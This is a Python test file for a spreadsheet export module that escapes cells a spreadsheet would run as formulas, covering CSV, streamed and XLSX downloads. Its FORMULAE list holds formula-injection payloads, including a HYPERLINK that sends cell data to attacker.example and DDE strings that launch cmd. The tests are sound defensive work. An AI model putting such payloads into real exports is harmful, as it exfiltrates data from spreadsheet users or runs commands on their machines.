"""The one CSV and XLSX writer: no cell it writes can run as a formula."""

from __future__ import annotations

import csv
import io
from decimal import Decimal

import pytest
from openpyxl import load_workbook

from commonground.core.spreadsheets import (
    csv_batches_response,
    csv_response,
    csv_streaming_response,
    csv_text,
    is_neutral,
    neutralise,
    xlsx_bytes,
)

FORMULAE = [
    '=HYPERLINK("http://attacker.example/?x="&A1,"Click")',
    "+SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]


@pytest.mark.parametrize("formula", FORMULAE)
def test_text_a_spreadsheet_would_run_is_written_with_a_leading_apostrophe(formula) -> None:
    assert neutralise(formula) == "'" + formula
    assert is_neutral(str(neutralise(formula)))


@pytest.mark.parametrize("value", ["Trafford Carers Centre", "", "'quoted", "A=B", "1+1"])
def test_ordinary_text_is_written_as_it_is(value) -> None:
    assert neutralise(value) == value


@pytest.mark.parametrize("value", [-1250, Decimal("-12.50"), "-12.50", "+3", "-7", 0.5, None])
def test_numbers_including_negative_amounts_stay_numbers(value) -> None:
    assert neutralise(value) == value


def test_a_csv_export_reads_back_with_every_formula_as_text() -> None:
    text = csv_text(["name", "amount"], [[f, "-12.50"] for f in FORMULAE])
    rows = list(csv.reader(io.StringIO(text)))
    assert rows[0] == ["name", "amount"]
    assert [row[0] for row in rows[1:]] == ["'" + f for f in FORMULAE]
    assert all(row[1] == "-12.50" for row in rows[1:])


def test_downloads_are_attachments_of_type_csv_whether_built_whole_or_streamed() -> None:
    whole = csv_response("x.csv", ["name"], [["=1+1"]])
    streamed = csv_streaming_response("x.csv", ["name"], [["=1+1"]])
    body = b"".join(streamed.streaming_content).decode()
    for response in (whole, streamed):
        assert response["Content-Type"] == "text/csv; charset=utf-8"
        assert response["Content-Disposition"] == 'attachment; filename="x.csv"'
    assert whole.content.decode() == body == "name\r\n'=1+1\r\n"


def test_a_download_sent_in_batches_is_one_piece_a_batch_and_the_same_csv() -> None:
    batches = [[[f, "-12.50"] for f in FORMULAE[:3]], [], [[f, -1250] for f in FORMULAE[3:]]]
    response = csv_batches_response("x.csv", ["name", "amount"], iter(batches))
    pieces = [piece.decode() for piece in response.streaming_content]
    assert len(pieces) == 1 + len(batches)
    assert response["Content-Disposition"] == 'attachment; filename="x.csv"'
    rows = [[str(cell) for cell in row] for batch in batches for row in batch]
    assert "".join(pieces) == csv_text(["name", "amount"], rows)


def test_an_xlsx_export_holds_formulae_as_text_cells_not_formula_cells() -> None:
    data = xlsx_bytes(["name", "amount"], [[f, Decimal("-12.50")] for f in FORMULAE], "Flows")
    sheet = load_workbook(io.BytesIO(data))["Flows"]
    cells = [row for row in sheet.iter_rows(min_row=2)]
    assert [row[0].value for row in cells] == ["'" + f for f in FORMULAE]
    assert {row[0].data_type for row in cells} == {"s"}
    assert {row[1].value for row in cells} == {-12.5}


def test_an_xlsx_export_leaves_out_control_characters_a_worksheet_cannot_hold() -> None:
    # As some registers and spend files publish names: a stray Ctrl-Z or bell kept from an old
    # export. A worksheet cannot hold one, and openpyxl refused the whole file for it.
    names = ["Age UK\x1a Trafford", "Bell\x07 Ltd", "=Tab\tand\nline kept"]
    data = xlsx_bytes(["name"], [[n] for n in names], "Suppliers")
    sheet = load_workbook(io.BytesIO(data))["Suppliers"]
    assert [row[0].value for row in sheet.iter_rows(min_row=2)] == [
        "Age UK Trafford",
        "Bell Ltd",
        "'=Tab\tand\nline kept",
    ]
